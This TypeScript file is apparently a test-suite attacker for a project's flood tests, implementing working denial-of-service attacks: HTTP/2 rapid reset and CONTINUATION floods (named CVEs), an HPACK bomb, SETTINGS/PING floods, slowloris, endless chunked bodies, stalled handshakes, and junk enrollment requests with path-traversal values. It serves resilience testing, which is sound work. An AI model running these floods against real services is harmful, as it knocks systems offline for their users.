// An attacker for the flood tests (issue 14), run inside a pod's (or a node's) network namespace:
//
//   world.exec(attacker, process.execPath, [FLOOD, JSON.stringify({ kind: "h2-rapid-reset", host, port, seconds: 5 })])
//
// Each kind keeps `connections` connections busy with one abuse for `seconds`, opening a new
// connection whenever the target closes one, and prints one JSON line (FloodReport): how much
// abuse it got out (so a test can tell a flood that ran from one that never started) and how often
// the target cut it off. Every loop is bounded by the deadline.

import http2 from "node:http2";
import net from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { connect as tlsConnect } from "node:tls";
import { FLAG, FRAME, frame, PREFACE } from "./raw-h2.ts";

export type FloodKind =
  | "h2-rapid-reset" // HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487)
  | "h2-continuation" // HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316)
  | "h2-hpack-bomb" // one large header in the dynamic table, referenced thousands of times per block
  | "h2-settings" // SETTINGS frames, whose ACKs the client never reads
  | "h2-ping" // PING frames, whose answers the client never reads
  | "idle" // connections that say nothing
  | "slowloris" // an HTTP/1.1 head, one header line a second, never finished
  | "endless-body" // POSTs whose chunked body never ends, as fast as the target takes it
  | "tunnel-stall" // a tunnel handshake's first bytes, then nothing
  | "enrollment" // requests to the agent's enrollment socket: junk, oversized and never-ending bodies
  | "controller-streams"; // gRPC streams to the controller that carry garbage instead of a Hello

export interface FloodArgs {
  kind: FloodKind;
  /** TCP target (everything but enrollment). */
  host?: string;
  port?: number;
  /** The enrollment socket (kind enrollment). */
  socketPath?: string;
  /** Connections kept going at once. */
  connections?: number;
  seconds: number;
  /** The request path for HTTP kinds. */
  path?: string;
}

export interface FloodReport {
  kind: FloodKind;
  /** Connections opened in all (each reconnect counts). */
  connectionsOpened: number;
  /** Connections the target closed or reset before the flood ended. */
  closedByTarget: number;
  /** Abusive units sent: streams opened, frames, bytes of body, requests, by kind. */
  units: number;
  /** Connect failures (refused, timed out). */
  connectFailures: number;
}

const args = JSON.parse(process.argv[2] ?? "{}") as FloodArgs;
const deadline = Date.now() + args.seconds * 1000;
const report: FloodReport = {
  kind: args.kind,
  connectionsOpened: 0,
  closedByTarget: 0,
  units: 0,
  connectFailures: 0,
};
const running = () => Date.now() < deadline;

/** `:method GET`, `:scheme http`, `:path /` from the static table; `:authority web` as a literal. */
const GET_BLOCK = Buffer.from([0x82, 0x86, 0x84, 0x41, 0x03, 0x77, 0x65, 0x62]);
/** An empty SETTINGS frame: the client's side of the preface. */
const CLIENT_PREFACE = Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0)]);

/** An HPACK string length (RFC 7541 §5.1, 7-bit prefix, no Huffman). */
function hpackLength(n: number): Buffer {
  if (n < 127) return Buffer.from([n]);
  const bytes = [0x7f];
  for (n -= 127; n >= 128; n >>= 7) bytes.push((n & 0x7f) | 0x80);
  bytes.push(n);
  return Buffer.from(bytes);
}

function tcp(): Promise<net.Socket | undefined> {
  return new Promise((resolve) => {
    const socket = net.connect({ host: args.host, port: args.port! });
    const timer = setTimeout(() => socket.destroy(new Error("connect timeout")), 3000);
    socket.once("connect", () => {
      clearTimeout(timer);
      report.connectionsOpened++;
      resolve(socket);
    });
    socket.once("error", () => {
      clearTimeout(timer);
      report.connectFailures++;
      resolve(undefined);
    });
  });
}

/** Resolves when the socket closes (counting it when the target did it) or the flood ends. */
function untilClosedOrDone(socket: net.Socket): Promise<void> {
  return new Promise((resolve) => {
    const timer = setTimeout(
      () => {
        socket.destroy();
        resolve();
      },
      Math.max(0, deadline - Date.now()),
    );
    socket.once("close", () => {
      clearTimeout(timer);
      if (running()) report.closedByTarget++;
      resolve();
    });
  });
}

/**
 * Keeps one connection at a time busy with `abuse` (called every few ms with the socket until it
 * returns false or the socket closes), reconnecting until the deadline.
 */
async function connectionLoop(start: (s: net.Socket) => void, abuse: (s: net.Socket) => boolean): Promise<void> {
  while (running()) {
    const socket = await tcp();
    if (!socket) {
      await sleep(50);
      continue;
    }
    socket.on("error", () => {});
    socket.on("data", () => {}); // read and drop (the frames-unread kinds pause instead)
    start(socket);
    const closed = untilClosedOrDone(socket);
    let open = true;
    void closed.then(() => {
      open = false;
    });
    while (open && running()) {
      // Only as fast as the target reads: a flood of what it must process, not of our own buffers.
      if (socket.writableLength < 1 << 20 && !abuse(socket)) break;
      await sleep(5);
    }
    await closed;
  }
}

function h2RapidReset(): Promise<void> {
  let stream = 1;
  return connectionLoop(
    (s) => {
      stream = 1;
      s.write(CLIENT_PREFACE);
    },
    (s) => {
      const batch: Buffer[] = [];
      for (let i = 0; i < 100 && stream < 2 ** 31 - 2; i++, stream += 2) {
        batch.push(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, stream, GET_BLOCK));
        batch.push(frame(FRAME.RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])));
        report.units++;
      }
      s.write(Buffer.concat(batch));
      return true;
    },
  );
}

function h2Continuation(): Promise<void> {
  // Literal without indexing, new name: "x-pad" with a 1000-byte value.
  const field = Buffer.concat([
    Buffer.from([0x00, 0x05]),
    Buffer.from("x-pad"),
    hpackLength(1000),
    Buffer.alloc(1000, 0x61),
  ]);
  return connectionLoop(
    (s) => s.write(Buffer.concat([CLIENT_PREFACE, frame(FRAME.HEADERS, 0, 1, GET_BLOCK)])),
    (s) => {
      const batch: Buffer[] = [];
      for (let i = 0; i < 50; i++, report.units++) batch.push(frame(9 /* CONTINUATION */, 0, 1, field));
      s.write(Buffer.concat(batch));
      return true;
    },
  );
}

function h2HpackBomb(): Promise<void> {
  let stream = 1;
  // Literal with incremental indexing, new name: "x-bomb" with a 4000-byte value (index 62 after).
  const insert = Buffer.concat([
    Buffer.from([0x40, 0x06]),
    Buffer.from("x-bomb"),
    hpackLength(4000),
    Buffer.alloc(4000, 0x62),
  ]);
  const refs = Buffer.alloc(8000, 0xbe); // indexed field 62, 8000 times: 32 MB decoded
  return connectionLoop(
    (s) => {
      stream = 1;
      s.write(CLIENT_PREFACE);
    },
    (s) => {
      const block = Buffer.concat([GET_BLOCK, insert, refs]);
      s.write(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, stream, block));
      stream += 2;
      report.units++;
      return true;
    },
  );
}

function h2Unread(type: number): Promise<void> {
  return connectionLoop(
    (s) => {
      s.pause(); // never read: the target's answers pile up on its side
      s.write(CLIENT_PREFACE);
    },
    (s) => {
      const payload = type === FRAME.SETTINGS ? Buffer.alloc(0) : Buffer.alloc(8, 1);
      const batch: Buffer[] = [];
      for (let i = 0; i < 200; i++, report.units++) batch.push(frame(type, 0, 0, payload));
      s.write(Buffer.concat(batch));
      return true;
    },
  );
}

/** Opens `connections` connections that each `hold` until the deadline, reopening closed ones. */
async function heldConnections(first: (s: net.Socket) => void, every?: (s: net.Socket) => void): Promise<void> {
  const one = async () => {
    while (running()) {
      const socket = await tcp();
      if (!socket) {
        await sleep(100);
        continue;
      }
      socket.on("error", () => {});
      socket.on("data", () => {});
      first(socket);
      const tick = every ? setInterval(() => every(socket), 1000) : undefined;
      await untilClosedOrDone(socket);
      clearInterval(tick);
    }
  };
  const n = args.connections ?? 1000;
  const all: Promise<void>[] = [];
  // Opened in waves of 100, as a real flood ramps up, so connect itself is not the bottleneck.
  for (let i = 0; i < n && running(); i++) {
    all.push(one());
    if (i % 100 === 99) await sleep(20);
  }
  await Promise.all(all);
}

function slowloris(): Promise<void> {
  return heldConnections(
    (s) => {
      s.write(`GET ${args.path ?? "/"} HTTP/1.1\r\nHost: web\r\n`);
      report.units++;
    },
    (s) => {
      if (!s.destroyed) s.write(`x-slow-${report.units++ % 1000}: 1\r\n`);
    },
  );
}

async function endlessBody(): Promise<void> {
  const chunk = Buffer.alloc(64 * 1024, 0x7a);
  const sized = Buffer.concat([Buffer.from(`${chunk.length.toString(16)}\r\n`), chunk, Buffer.from("\r\n")]);
  const one = () =>
    connectionLoop(
      (s) =>
        s.write(
          `POST ${args.path ?? "/"} HTTP/1.1\r\nHost: web\r\nTransfer-Encoding: chunked\r\nContent-Type: application/octet-stream\r\n\r\n`,
        ),
      (s) => {
        s.write(sized);
        report.units += chunk.length;
        return true;
      },
    );
  await Promise.all(Array.from({ length: args.connections ?? 4 }, one));
}

/** A tunnel handshake's start (a TLS ClientHello would be next): its first bytes, then silence. */
function tunnelStall(): Promise<void> {
  return heldConnections((s) => {
    s.write(Buffer.from([0x16, 0x03, 0x01, 0x02]));
    report.units++;
  });
}

async function enrollmentFlood(): Promise<void> {
  const socketPath = args.socketPath!;
  const bodies = [
    "{not json",
    JSON.stringify({ name: "x".repeat(300), namespace: "default", ip: "10.0.0.1" }),
    JSON.stringify({ name: "../../etc", namespace: "default", ip: "10.0.0.1", netnsPath: "/proc/1/ns/net" }),
    `{"a":${"[".repeat(5000)}${"]".repeat(5000)}}`,
    "x".repeat(200_000),
  ];
  const request = (i: number) =>
    new Promise<void>((resolve) => {
      const s = net.connect(socketPath);
      s.on("error", () => {
        report.connectFailures++;
        resolve();
      });
      s.on("connect", () => {
        report.connectionsOpened++;
        const body = bodies[i % bodies.length]!;
        const slow = i % 7 === 0; // some never finish their body
        s.write(
          `POST /v1/pods HTTP/1.1\r\nHost: agent\r\nContent-Type: application/json\r\nContent-Length: ${body.length + (slow ? 10 : 0)}\r\n\r\n${body}`,
        );
        report.units++;
      });
      s.on("data", () => {});
      const timer = setTimeout(() => s.destroy(), Math.min(3000, Math.max(0, deadline - Date.now())));
      s.on("close", () => {
        clearTimeout(timer);
        resolve();
      });
    });
  let i = 0;
  const worker = async () => {
    while (running()) await request(i++);
  };
  await Promise.all(Array.from({ length: args.connections ?? 50 }, worker));
}

/** gRPC streams opened over TLS to the controller's AgentService, each fed garbage, as fast as it takes them. */
async function controllerStreams(): Promise<void> {
  const one = async () => {
    while (running()) {
      const session = http2.connect(`https://${args.host}:${args.port}`, {
        createConnection: () =>
          tlsConnect({ host: args.host, port: args.port, ALPNProtocols: ["h2"], rejectUnauthorized: false }),
      });
      session.on("error", () => {});
      const closed = new Promise<void>((resolve) => session.once("close", resolve));
      session.once("connect", () => report.connectionsOpened++);
      let open = true;
      void closed.then(() => {
        open = false;
        if (running()) report.closedByTarget++;
      });
      while (open && running() && !session.destroyed) {
        for (let i = 0; i < 20 && !session.destroyed && !session.closed; i++) {
          try {
            const stream = session.request({
              ":method": "POST",
              ":path": "/nodemesh.agent.v1.AgentService/Connect",
              "content-type": "application/grpc",
              te: "trailers",
            });
            stream.on("error", () => {});
            stream.on("data", () => {});
            stream.end(Buffer.concat([Buffer.from([0, 0, 0, 0, 16]), Buffer.alloc(16, 0xff)]));
            report.units++;
          } catch {
            break; // the session is going away
          }
        }
        await sleep(10);
      }
      session.destroy();
      await closed;
    }
  };
  await Promise.all(Array.from({ length: args.connections ?? 4 }, one));
}

const FLOODS: Record<FloodKind, () => Promise<void>> = {
  "h2-rapid-reset": h2RapidReset,
  "h2-continuation": h2Continuation,
  "h2-hpack-bomb": h2HpackBomb,
  "h2-settings": () => h2Unread(FRAME.SETTINGS),
  "h2-ping": () => h2Unread(6 /* PING */),
  idle: () => heldConnections(() => {}),
  slowloris,
  "endless-body": endlessBody,
  "tunnel-stall": tunnelStall,
  enrollment: enrollmentFlood,
  "controller-streams": controllerStreams,
};

const flood = FLOODS[args.kind];
if (!flood) throw new Error(`unknown flood kind ${args.kind}`);
await Promise.all(Array.from({ length: args.kind.startsWith("h2-") ? (args.connections ?? 4) : 1 }, flood));
console.log(JSON.stringify(report));
